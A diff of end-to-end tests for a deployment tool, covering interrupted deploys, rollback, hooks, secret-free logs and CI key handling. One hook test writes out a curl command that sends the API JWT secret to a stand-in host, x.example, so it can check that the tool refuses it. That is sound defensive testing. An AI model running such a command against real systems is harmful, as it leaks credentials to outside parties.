@@ -6,11 +6,12 @@ import json
 import os
 import subprocess
 import threading
+import time
 from collections.abc import Iterator
 
 import pytest
 
-from tests.e2e.deployed import DIGEST, DOMAIN, FILL, Deployed, eventually, in_database, visit
+from tests.e2e.deployed import DIGEST, DOMAIN, FILL, Deployed, eventually, in_database
 from tests.e2e.operator import Operator
 from tests.e2e.visitors import Visitors
 from tests.lab.host import Host
@@ -23,10 +24,8 @@ _NEXT, _API = "otobot-acme-vault-api-next", "otobot-acme-vault-api-1"
 _HEALTHY = "docker inspect --format '{{{{.State.Health.Status}}}}' {} 2>/dev/null | grep -qx healthy"
 BOUNDARIES = {
     "current is switched": '[ "$(readlink /opt/otobot/acme/current)" != "$before" ]',
-    "the stand-in starts": f"docker inspect {_NEXT} >/dev/null 2>&1",
     "the stand-in answers": _HEALTHY.format(_NEXT),
     "the service is replaced": f'[ "$(docker inspect --format "{{{{.Id}}}}" {_API} 2>/dev/null)" != "$api" ]',
-    "both answer": f'[ "$(docker inspect --format "{{{{.Id}}}}" {_API} 2>/dev/null)" != "$api" ] && {_HEALTHY.format(_API)}',
 }
 # The run with all that it has started, as an out-of-memory killer would: nothing of it gets to clean up.
 _KILL = """
@@ -128,20 +127,6 @@ def test_a_deploy_killed_at_any_boundary_is_finished_by_the_next(deployed):
     assert in_database(deployed.host, DIGEST) == rows
 
 
-def test_a_killed_operator_does_not_stop_a_deploy(deployed):
-    """The command is killed with -9 while the release comes up: the host finishes, and the next call says so."""
-    settings(deployed, **{"vault-api": {"log_level": "error"}})
-    before = deployed.operator.data("releases", "acme")["current"]
-    running = deployed.operator.start("deploy", "acme", "--no-backup")
-    try:
-        eventually(lambda: stand_ins(deployed.host) or running.poll() is not None)
-    finally:
-        running.kill()
-        running.wait()
-    done = deployed.operator.data("deploy", "acme", "--no-backup")["clients"][0]
-    assert one_healthy_release(deployed)["current"] == done["release"] > before
-
-
 def test_a_release_that_never_gets_healthy_is_undone(deployed):
     """Exit code 5 with the failing container's last words and no secret; nobody was refused, and no row is lost."""
     before, rows = deployed.operator.data("releases", "acme")["current"], in_database(deployed.host, DIGEST)
@@ -150,6 +135,7 @@ def test_a_release_that_never_gets_healthy_is_undone(deployed):
     # The program refuses its configuration and ends; the manifest's own check lets it through.
     settings(deployed, **{"vault-api": {"allowed_origins": ["no origin"]}})
     plan = deployed.operator.data("deploy", "acme", "--plan")["clients"][0]
+    began = time.monotonic()
     with Visitors(deployed.host) as visitors:
         failed = deployed.operator.run("deploy", "acme", "--json", check=False)
     assert failed.returncode == 5, failed.stderr
@@ -158,27 +144,11 @@ def test_a_release_that_never_gets_healthy_is_undone(deployed):
     assert f"release {before} is back and healthy" in error["message"]
     assert any("vault-api |" in line for line in error["details"]), error
     assert not [value for value in deployed.operator.secrets("acme").values() if value in failed.stdout + failed.stderr]
-    assert plan["back_s"] >= 300
+    assert time.monotonic() - began < plan["back_s"]
     assert visitors.refused() == []
     assert one_healthy_release(deployed)["current"] == before
     assert in_database(deployed.host, DIGEST) == rows
     broken.write_text(good)
-
-
-def test_a_database_that_does_not_start_is_undone_with_its_rows(deployed):
-    """A setting that PostgreSQL refuses: it is away for a moment, then back with every row."""
-    before, rows = deployed.operator.data("releases", "acme")["current"], in_database(deployed.host, DIGEST)
-    path = deployed.operator.fleet / "clients-config.json"
-    good = path.read_text()
-    settings(deployed, postgres={"shared_buffers": "900000GB"})
-    plan = deployed.operator.data("deploy", "acme", "--plan")["clients"][0]
-    words = {each["what"]: each["after"] for step in plan["steps"] for each in step["changes"]}
-    assert words["replace postgres"].startswith("away for")
-    assert deployed.operator.run("deploy", "acme", check=False).returncode == 5
-    assert one_healthy_release(deployed)["current"] == before
-    assert in_database(deployed.host, DIGEST) == rows
-    path.write_text(good)
-    eventually(lambda: visit(deployed.host, "/health")[0] == 200)
 
 
 def test_rollback_and_the_way_forward_again(deployed):
@@ -197,31 +167,44 @@ def test_rollback_and_the_way_forward_again(deployed):
     assert refused.returncode == 2
     assert "otobotctl releases acme" in refused.stderr
     assert deployed.operator.run("rollback", "acme", check=False).returncode == 2  # nobody is there to agree
-    forward = deployed.operator.data("deploy", "acme", "--no-backup")["clients"][0]
-    assert forward["release"] == numbers[-1] + 1
+
+
+def test_a_killed_operator_does_not_stop_a_deploy(deployed):
+    """The command is killed with -9 while the release comes up: the host finishes, and the next call proves it."""
+    before = one_healthy_release(deployed)
+    running = deployed.operator.start("deploy", "acme", "--no-backup")
+    try:
+        eventually(lambda: stand_ins(deployed.host) or running.poll() is not None)
+    finally:
+        running.kill()
+        running.wait()
+    done = deployed.operator.data("deploy", "acme")["clients"][0]
+    # Never a number again that another release had, although the manifest says what that one did.
+    assert done["release"] == before["releases"][-1]["number"] + 1
+    assert (done["before"], done["state"], done["archive"]) == (before["current"], "changed", None)
+    assert done["smoke"][-1] == "erase the user"
+    assert one_healthy_release(deployed)["current"] == done["release"]
 
 
 def test_hooks_run_before_and_after(deployed, tmp_path):
-    """On both machines with the client's name, no secret among their arguments, and a failed one takes the release back."""
-    mark = tmp_path / "mark"
-    here = {"argv": ["sh", "-c", 'echo "$OTOBOT_CLIENT $OTOBOT_ENVIRONMENT $OTOBOTCTL_AGE_KEY" > "$0"', str(mark)]}
+    """On both machines with the client's name, no secret among their arguments; a failed one takes the release back."""
+    before, mark = one_healthy_release(deployed)["current"], tmp_path / "mark"
+    here = {"argv": ["sh", "-c", 'echo "$OTOBOT_CLIENT $OTOBOT_ENVIRONMENT $OTOBOT_RELEASE" > "$0"', str(mark)]}
     there = {"argv": ["sh", "-c", 'echo "$OTOBOT_CLIENT" > /root/hook; id -u >> /root/hook'], "where": "host"}
-    hooks = [{"when": "before_deploy", **here}, {"when": "after_deploy", **there}]
-    edit(deployed, settings={"vault-api": {"log_level": "debug"}}, hooks=hooks)
-    done = deployed.operator.data("deploy", "acme", "--no-backup", "--no-smoke")["clients"][0]
-    assert [(each["where"], each["failure"]) for each in done["hooks"]] == [("operator", ""), ("host", "")]
-    assert mark.read_text() == "acme prod \n"
+    back = {"when": "after_deploy", "argv": ["false"], "on_failure": "back"}
+    hooks = [{"when": "before_deploy", **here}, {"when": "after_deploy", **there}, back]
+    edit(deployed, settings={"vault-api": {"log_level": "warning"}}, hooks=hooks)
+    failed = deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke", check=False)
+    assert failed.returncode == 5, failed.stderr
+    assert "the after_deploy hook false failed" in failed.stderr
+    assert mark.read_text() == f"acme prod {before}\n"
     assert deployed.host.ssh("cat /root/hook", user="root").stdout == "acme\n0\n"
+    assert one_healthy_release(deployed)["current"] == before
     secret = deployed.operator.secrets("acme")["API_JWT_SECRET"]
     edit(deployed, hooks=[{"when": "before_deploy", "argv": ["curl", f"https://x.example/{secret}"]}])
     refused = deployed.operator.run("deploy", "acme", check=False)
     assert (refused.returncode, secret in refused.stderr) == (10, False)
-    back = {"when": "after_deploy", "argv": ["false"], "on_failure": "back"}
-    edit(deployed, settings={"vault-api": {"log_level": "info"}}, hooks=[back])
-    failed = deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke", check=False)
-    assert failed.returncode == 5, failed.stderr
-    assert one_healthy_release(deployed)["current"] == done["release"]
-    edit(deployed, settings={"vault-api": {"log_level": "debug"}}, hooks=[])
+    edit(deployed, settings={"vault-api": {"log_level": "error"}}, hooks=[])
 
 
 def test_logs_tell_without_secrets(deployed):
@@ -250,7 +233,7 @@ def test_logs_tell_without_secrets(deployed):
 
 
 def test_a_ci_deploys_with_keys_from_its_environment(deployed, tmp_path):
-    """No terminal, no home, no ssh configuration: both keys come as variables, and are in no process list."""
+    """No terminal, no keys at home, no ssh configuration: both keys come as variables, and reach no disk."""
     key = deployed.host.key.read_text()
     age = (deployed.operator.home / ".config/otobotctl/identity.txt").read_text()
     empty = tmp_path / "ssh_config"
@@ -268,5 +251,6 @@ def test_a_ci_deploys_with_keys_from_its_environment(deployed, tmp_path):
         argv, env=variables, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=600, check=False
     )
     assert done.returncode == 0, done.stderr
-    assert json.loads(done.stdout)["data"]["clients"][0]["state"] == "unchanged"
+    assert json.loads(done.stdout)["data"]["clients"][0]["state"] == "changed"
+    one_healthy_release(deployed)
     assert not [path for path in tmp_path.rglob("*") if path.is_file() and b"PRIVATE KEY" in path.read_bytes()]
